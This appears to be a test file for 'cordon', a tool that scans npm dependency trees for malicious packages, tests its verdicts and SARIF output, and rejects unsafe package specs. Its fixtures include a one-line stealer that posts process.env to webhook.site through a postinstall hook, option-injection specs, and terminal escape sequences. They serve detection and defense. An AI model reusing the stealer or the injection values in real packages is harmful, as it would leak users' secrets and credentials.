import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdtemp, mkdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { ScanCache, defaultCacheDir, parseNpmSpec, scanPackageDir, scanSpec, scanTree, toSarif, verdictOf } from "../../src/scan/index.js";
import { manifest } from "./helpers.js";

const run = promisify(execFile);
const CLI = fileURLToPath(new URL("../../src/cli/main.js", import.meta.url));
const STEALER = "const https = require('https'); https.request({ hostname: 'webhook.site' }).end(JSON.stringify(process.env));";

async function project(): Promise<{ dir: string; cleanup: () => Promise<void> }> {
  const dir = await mkdtemp(join(tmpdir(), "cordon-tree-test-"));
  const write = async (path: string, content: string) => {
    await mkdir(join(dir, path, ".."), { recursive: true });
    await writeFile(join(dir, path), content);
  };
  await write("package.json", manifest({ name: "app" }));
  await write("node_modules/good/package.json", manifest({ name: "good" }));
  await write("node_modules/good/index.js", "module.exports = () => process.env.NODE_ENV;");
  await write("node_modules/@scope/evil/package.json", manifest({ name: "@scope/evil", scripts: { postinstall: "node index.js" } }));
  await write("node_modules/@scope/evil/index.js", STEALER);
  await write("node_modules/good/node_modules/nested/package.json", manifest({ name: "nested" }));
  await write("node_modules/.package-lock.json", JSON.stringify({
    lockfileVersion: 3,
    packages: {
      "node_modules/good": { version: "1.0.0", integrity: "sha512-good" },
      "node_modules/@scope/evil": { version: "1.0.0", integrity: "sha512-evil" },
      "node_modules/good/node_modules/nested": { version: "1.0.0", integrity: "sha512-nested" },
    },
  }));
  return { dir, cleanup: () => rm(dir, { recursive: true, force: true }) };
}

describe("scanTree", () => {
  it("scans nested and scoped packages, worst first, and reuses cached results by integrity", async () => {
    const tree = await project();
    const cache = new ScanCache(join(tree.dir, "cache"));
    try {
      const cold = await scanTree(tree.dir, { cache, workers: 1 });
      assert.deepEqual(cold.packages.map((p) => p.name), ["@scope/evil", "good", "nested"]);
      assert.equal(cold.verdict, "malicious");
      assert.ok(cold.packages[0]!.findings.some((f) => f.rule === "manifest-confusion"), "lockfile said no install script");
      const warm = await scanTree(tree.dir, { cache, workers: 1 });
      assert.equal(warm.stats.cachedPackages, 3);
      assert.deepEqual(warm.packages.map((p) => p.verdict), cold.packages.map((p) => p.verdict));
    } finally {
      await tree.cleanup();
    }
  });

  it("finds packages in pnpm's store without following its links", async () => {
    const dir = await mkdtemp(join(tmpdir(), "cordon-pnpm-"));
    try {
      const real = join(dir, "node_modules/.pnpm/evil@1.0.0/node_modules/evil");
      await mkdir(real, { recursive: true });
      await writeFile(join(real, "package.json"), manifest({ name: "evil" }));
      await writeFile(join(real, "index.js"), STEALER);
      const { symlink } = await import("node:fs/promises");
      await symlink(real, join(dir, "node_modules/evil"));
      const report = await scanTree(dir, { cache: false, workers: 1 });
      assert.deepEqual(report.packages.map((p) => [p.name, p.verdict]), [["evil", "malicious"]]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it("tells the user what to do when there is no node_modules", async () => {
    const dir = await mkdtemp(join(tmpdir(), "cordon-empty-"));
    try {
      await assert.rejects(scanTree(dir, { cache: false }), (error: Error & { code?: string; hint?: string }) =>
        error.code === "E_CONFIG" && /no node_modules/.test(error.message) && /install/i.test(error.hint ?? ""));
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe("API edges", () => {
  it("defaults the cache under XDG_CACHE_HOME, else ~/.cache", () => {
    assert.equal(defaultCacheDir({ XDG_CACHE_HOME: "/x/cache" }), "/x/cache/cordon/scan");
    assert.match(defaultCacheDir({}), /\.cache\/cordon\/scan$/);
  });

  it("refuses specs that would make npm run code or read an option", () => {
    assert.equal(parseNpmSpec("npm:left-pad@1.3.0"), "left-pad@1.3.0");
    assert.equal(parseNpmSpec("npm:@scope/pkg@^1.2.0"), "@scope/pkg@^1.2.0");
    for (const bad of ["npm:git+https://example.com/x.git", "npm:--registry=http://evil", "npm:../local", "npm:file:../x", "npm:github:user/repo"]) {
      assert.throws(() => parseNpmSpec(bad), /not a registry package spec/, bad);
    }
  });

  it("names the folder when it is not a package", async () => {
    const dir = await mkdtemp(join(tmpdir(), "cordon-nopkg-"));
    try {
      await assert.rejects(scanPackageDir(dir, { cache: false }), new RegExp(`${dir} is not a package folder`));
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it("turns findings into verdicts by weight", () => {
    const finding = (rule: string, severity: "critical" | "high" | "medium") => ({ rule, severity, file: "a.js", line: 1, column: 1, message: "", evidence: "" });
    assert.equal(verdictOf([]), "ok");
    assert.equal(verdictOf([finding("a", "medium"), finding("b", "medium")]), "ok");
    assert.equal(verdictOf([finding("a", "medium"), finding("b", "medium"), finding("c", "medium")]), "suspicious");
    assert.equal(verdictOf([finding("a", "high"), finding("a", "high")]), "suspicious");
    assert.equal(verdictOf([finding("a", "high"), finding("b", "high")]), "malicious");
    assert.equal(verdictOf([finding("a", "critical")]), "malicious");
  });
});

describe("cordon scan CLI", () => {
  async function cli(args: string[], cwd: string): Promise<{ code: number; stdout: string; stderr: string }> {
    try {
      const { stdout, stderr } = await run(process.execPath, [CLI, "scan", ...args], { cwd, env: { ...process.env, XDG_CACHE_HOME: join(cwd, ".cache") } });
      return { code: 0, stdout, stderr };
    } catch (error) {
      const failed = error as { code: number; stdout: string; stderr: string };
      return { code: failed.code, stdout: failed.stdout, stderr: failed.stderr };
    }
  }

  it("exits 1 on a malicious tree, 0 with --fail-on=none, and strips terminal escapes from package text", async () => {
    const tree = await project();
    try {
      await writeFile(join(tree.dir, "node_modules/@scope/evil/package.json"), manifest({ name: "@scope/evil", version: "1.0.0\u001b]0;pwned\u0007\u001b[2J\u202e", scripts: { postinstall: "node index.js" } }));
      const failing = await cli([], tree.dir);
      assert.equal(failing.code, 1, failing.stderr);
      assert.match(failing.stdout, /malicious/);
      assert.doesNotMatch(failing.stdout, /\u001b\]|\u001b\[2J|\u0007/);
      const passing = await cli(["--fail-on=none", "--format=json"], tree.dir);
      assert.equal(passing.code, 0);
      assert.equal(JSON.parse(passing.stdout).verdict, "malicious");
      assert.doesNotMatch(passing.stdout, /[\u001b\u0007\u202e]/, "JSON escapes what a terminal would act on");
      assert.ok(JSON.parse(passing.stdout).packages.some((p: { version: string }) => p.version.includes("\u202e")), "and keeps it, escaped");
    } finally {
      await tree.cleanup();
    }
  });

  it("writes SARIF 2.1.0 with rules, levels and 1-based regions", async () => {
    const tree = await project();
    try {
      const { stdout } = await cli(["--format=sarif", "--fail-on=none"], tree.dir);
      const sarif = JSON.parse(stdout);
      assert.equal(sarif.version, "2.1.0");
      const [runLog] = sarif.runs;
      const ruleIds = new Set(runLog.tool.driver.rules.map((rule: { id: string }) => rule.id));
      assert.ok(runLog.results.length > 0);
      for (const result of runLog.results) {
        assert.ok(ruleIds.has(result.ruleId));
        assert.ok(["error", "warning", "note"].includes(result.level));
        const location = result.locations[0].physicalLocation;
        assert.match(location.artifactLocation.uri, /^node_modules\//);
        if (location.region) assert.ok(location.region.startLine >= 1);
      }
    } finally {
      await tree.cleanup();
    }
  });

  it("rejects an unknown --fail-on with the allowed values and no stack trace", async () => {
    const result = await cli(["--fail-on=sometimes"], tmpdir());
    assert.equal(result.code, 125);
    assert.match(result.stderr, /--fail-on=sometimes is not one of malicious, suspicious, none/);
    assert.doesNotMatch(result.stderr, /\n\s+at /);
  });

  it("keeps SARIF clean of info findings", () => {
    const sarif = toSarif([{ name: "x", version: "1", verdict: "ok", source: "x", cached: false, stats: { files: 0, parsedFiles: 0, jsBytes: 0, milliseconds: 0 }, findings: [{ rule: "native-binary", severity: "info", file: "a", line: 0, column: 0, message: "", evidence: "" }] }]) as { runs: Array<{ results: unknown[] }> };
    assert.equal(sarif.runs[0]!.results.length, 0);
  });
});

describe("scanSpec (network: the configured npm registry)", () => {
  it("fetches left-pad with npm pack and finds nothing", async (t) => {
    try {
      await run("npm", ["view", "left-pad@1.3.0", "version"], { timeout: 30_000 });
    } catch (error) {
      t.skip(`SKIPPED LOUDLY: npm view failed, so the registry is unreachable here (${(error as Error).message.split("\n")[0]})`);
      return;
    }
    const report = await scanSpec("npm:left-pad@1.3.0", { cache: false });
    assert.equal(report.name, "left-pad");
    assert.equal(report.version, "1.3.0");
    assert.equal(report.verdict, "ok");
    assert.match(report.integrity ?? "", /^sha512-/);
    assert.match(report.source, /^npm:left-pad@1\.3\.0 from /);
  });
});
